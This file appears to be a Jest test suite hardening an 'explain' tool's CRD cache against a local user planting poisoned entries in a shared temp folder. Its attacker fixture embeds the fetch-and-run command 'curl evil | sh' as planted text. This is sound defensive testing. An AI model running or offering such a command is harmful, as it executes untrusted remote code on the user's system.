/**
 * Explain's cache in the shared temp folder: explain caches parsed CRD files, and when
 * installed as a dependency the cache was one fixed-name folder in /tmp that any local user could
 * create first and fill with what explain then printed. The default is now one folder per user,
 * and any cache folder is used only when it is private: a real folder owned by this user that no
 * one else may write to. Otherwise nothing is cached (it only costs time).
 */
import { createHash } from 'node:crypto';
import {
  chmodSync,
  chownSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { explain } from '../../../lib/tooling/explain/explain';
import { defaultCacheDir, privateCacheProblem } from '../../../lib/tooling/explain/explain-schemas';

const CRD = `apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: gadgets.example.com}
spec:
  group: example.com
  scope: Namespaced
  names: {kind: Gadget, plural: gadgets}
  versions:
  - name: v1
    served: true
    storage: true
    schema:
      openAPIV3Schema: {type: object, description: The real description.}
`;
/** What a hostile user plants under the name explain looks the CRD file up by. */
const PLANTED = [
  {
    kind: 'CustomResourceDefinition',
    spec: {
      group: 'example.com',
      names: { kind: 'Gadget', plural: 'gadgets' },
      versions: [{ name: 'v1', served: true, schema: { openAPIV3Schema: { type: 'object', description: 'PLANTED: run curl evil | sh' } } }],
    },
  },
];

let dir: string;
let crds: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'hostile-cache-'));
  crds = join(dir, 'crds');
  mkdirSync(crds);
  writeFileSync(join(crds, 'gadget.yaml'), CRD);
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** A cache folder holding the planted entry for gadget.yaml, prepared by `prepare`. */
function plantedCache(name: string, prepare: (cache: string) => void): string {
  const cache = join(dir, name);
  mkdirSync(cache, { mode: 0o700 });
  const key = createHash('sha256')
    .update(readFileSync(join(crds, 'gadget.yaml'), 'utf8'))
    .digest('hex');
  writeFileSync(join(cache, `crd-v1-${key}.json`), JSON.stringify(PLANTED));
  prepare(cache);
  return cache;
}

const describeGadget = (cacheDir: string) => explain('gadgets', { crdDirs: [crds], cacheDir }).stdout;

test('a private cache folder is used (the planted entry shows it is read)', () => {
  const cache = plantedCache('private', () => undefined);
  expect(privateCacheProblem(cache)).toBeUndefined();
  expect(describeGadget(cache)).toContain('PLANTED');
});

test.each([
  ['world-writable folder', (cache: string) => chmodSync(cache, 0o777), /may be written by others \(mode 777\)/],
  ['group-writable folder', (cache: string) => chmodSync(cache, 0o770), /may be written by others \(mode 770\)/],
  ['folder owned by another user', (cache: string) => chownSync(cache, 65534, 65534), /belongs to user 65534, not to this user/],
])('a cache %s is not used: explain prints the CRD file itself', (name, prepare, problem) => {
  const cache = plantedCache(name.replace(/ /g, '-'), prepare);
  expect(privateCacheProblem(cache)).toMatch(problem);
  const out = describeGadget(cache);
  expect(out).toContain('The real description.');
  expect(out).not.toContain('PLANTED');
});

test('a symbolic link in the place of the cache folder is not used', () => {
  const target = plantedCache('link-target', () => undefined);
  const link = join(dir, 'link');
  symlinkSync(target, link);
  expect(privateCacheProblem(link)).toMatch(/is a symbolic link/);
  expect(describeGadget(link)).not.toContain('PLANTED');
});

test('a cache folder explain creates is private (0700) and its entries 0600', () => {
  const cache = join(dir, 'fresh');
  expect(describeGadget(cache)).toContain('The real description.');
  expect(statSync(cache).mode & 0o777).toBe(0o700);
  const entries = readdirSync(cache);
  expect(entries).toHaveLength(1);
  expect(statSync(join(cache, entries[0]!)).mode & 0o777).toBe(0o600);
});

test('installed as a dependency (no node_modules of its own), the default folder is per user', () => {
  expect(defaultCacheDir(dir)).toBe(join(tmpdir(), `k8s-practice-explain-cache-${process.getuid!()}`));
});
